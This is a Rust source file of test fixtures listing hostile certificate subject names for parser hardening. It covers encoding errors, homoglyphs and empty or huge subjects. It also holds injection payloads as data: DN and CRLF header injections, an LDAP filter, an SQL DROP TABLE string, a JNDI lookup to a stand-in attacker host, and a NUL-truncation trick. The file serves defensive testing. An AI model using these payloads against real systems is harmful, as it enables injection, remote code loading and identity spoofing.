//! Subjects that repeat, inject, lie about their encoding, or say nothing.

use crate::{
    Attribute, DistinguishedName, Oid, StringType,
    hostile::{Part, Row},
};

pub(super) const CASES: &[Row<Part<DistinguishedName>>] = &[
    ("dup_cn", "two common names", || cn("first").with(Attribute::utf8(Oid::COMMON_NAME, "last"))),
    ("two_ou", "two organizational units", || {
        let unit = |name: &str| Attribute::utf8(Oid::ORGANIZATIONAL_UNIT, name);
        DistinguishedName::new()
            .with(unit("eng"))
            .with(unit("ops"))
            .with(Attribute::utf8(Oid::COMMON_NAME, "alice"))
    }),
    ("multi_rdn", "OU=admin and CN=mallory in one relative name", || {
        let unit = Attribute::utf8(Oid::ORGANIZATIONAL_UNIT, "admin");
        DistinguishedName::new().with_all([unit, Attribute::utf8(Oid::COMMON_NAME, "mallory")])
    }),
    ("inj_comma", "a common name that reads like more attributes, RFC 4514 style", || {
        cn("mallory,OU=admin,CN=root")
    }),
    ("inj_slash", "a common name that reads like more attributes, OpenSSL style", || {
        cn("mallory/OU=admin/CN=root")
    }),
    ("inj_plus", "a common name that reads like a multi-valued relative name", || cn("mallory+OU=admin")),
    ("inj_quote", "a common name that closes a quoted header value", || {
        cn("mallory\";URI=spiffe://test/admin;X=\"")
    }),
    ("inj_crlf", "a common name that starts a new header line", || cn("mallory\r\nX-Role: admin")),
    ("inj_ou", "an organizational unit that reads like a common name", || {
        let unit = Attribute::utf8(Oid::ORGANIZATIONAL_UNIT, "CN=duke,");
        DistinguishedName::new().with(unit).with(Attribute::utf8(Oid::COMMON_NAME, "luke"))
    }),
    ("inj_hash", "a common name that reads like hex-encoded DER", || cn("#0405726f6f74")),
    ("inj_special", "every character that RFC 4514 escapes", || cn(" a,b+c\"d\\e<f>g;h=i# ")),
    ("inj_ldap", "a common name that is an LDAP filter", || cn("*)(uid=*")),
    ("inj_sql", "a common name that is SQL", || cn("'; DROP TABLE users; --")),
    ("inj_jndi", "a common name that is a JNDI look-up", || cn("${jndi:ldap://attacker.test/x}")),
    ("nul_cn", "a NUL after the name of an admin", || cn("admin\0.evil.example")),
    ("bmp_cn", "a common name in UTF-16", || typed(StringType::Bmp, &utf16("j\u{f6}rg"))),
    ("bmp_odd", "UTF-16 of an odd number of bytes", || typed(StringType::Bmp, b"\0a\0d\0m\0i\0n\0")),
    ("bmp_surrogates", "UTF-16 with a surrogate pair, which BMPString forbids", || {
        typed(StringType::Bmp, &utf16("a\u{1f600}"))
    }),
    ("bmp_lone_surrogate", "UTF-16 with half a surrogate pair", || typed(StringType::Bmp, b"\0a\xd8\x00\0b")),
    ("universal_cn", "a common name in UTF-32", || typed(StringType::Universal, &utf32("j\u{f6}rg"))),
    ("universal_odd", "UTF-32 of five bytes", || typed(StringType::Universal, b"\0\0\0a\0")),
    ("universal_range", "UTF-32 beyond the last character", || typed(StringType::Universal, b"\0\x11\0\0")),
    ("t61_cn", "a common name in T.61, or is it Latin-1", || typed(StringType::Teletex, b"j\xf6rg")),
    ("badutf8_cn", "a UTF8String that is no UTF-8", || typed(StringType::Utf8, b"adm\xff\xfein")),
    ("printable_at", "a PrintableString with characters it has not", || {
        typed(StringType::Printable, b"a*@&_b")
    }),
    ("ia5_high", "an IA5String with a byte beyond ASCII", || typed(StringType::Ia5, b"j\xf6rg")),
    ("rtl_cn", "nimda after a right-to-left override, shown as admin", || cn("\u{202e}nimda")),
    ("utf8_cn", "a common name far beyond ASCII, perfectly valid", || cn("J\u{f6}rg \u{674e} \u{1f600}")),
    ("nfd_cn", "o and a combining diaeresis", || cn("jo\u{308}rg")),
    ("cyrillic_cn", "a Cyrillic a in alice", || cn("\u{430}lice")),
    ("zero_width_cn", "a zero-width blank in alice", || cn("al\u{200b}ice")),
    ("upper_cn", "alice with a capital letter", || cn("Alice")),
    ("blank_cn", "alice between blanks", || cn(" alice ")),
    ("printable_cn", "alice as PrintableString, perfectly valid", || typed(StringType::Printable, b"alice")),
    ("empty_cn", "a common name of no characters", || cn("")),
    ("no_cn", "a subject without a common name", || {
        DistinguishedName::new().with(Attribute::utf8(Oid::ORGANIZATION, "Example"))
    }),
    ("empty_dn", "an empty subject, and no alternative name", DistinguishedName::new),
    ("empty_rdn", "a relative name without attributes", || cn("alice").with_all([])),
    ("long_cn", "a common name of 10,000 characters", || cn(&"a".repeat(10_000))),
    ("many_ou", "500 organizational units", || {
        let units = (0..500).map(|i| Attribute::utf8(Oid::ORGANIZATIONAL_UNIT, format!("unit{i}")));
        units
            .fold(DistinguishedName::new(), DistinguishedName::with)
            .with(Attribute::utf8(Oid::COMMON_NAME, "alice"))
    }),
];

fn cn(value: &str) -> DistinguishedName {
    DistinguishedName::common_name(value)
}

fn typed(string_type: StringType, value: &[u8]) -> DistinguishedName {
    DistinguishedName::new().with(Attribute::new(Oid::COMMON_NAME, string_type, value))
}

fn utf16(text: &str) -> Vec<u8> {
    text.encode_utf16().flat_map(u16::to_be_bytes).collect()
}

fn utf32(text: &str) -> Vec<u8> {
    text.chars().map(u32::from).flat_map(u32::to_be_bytes).collect()
}
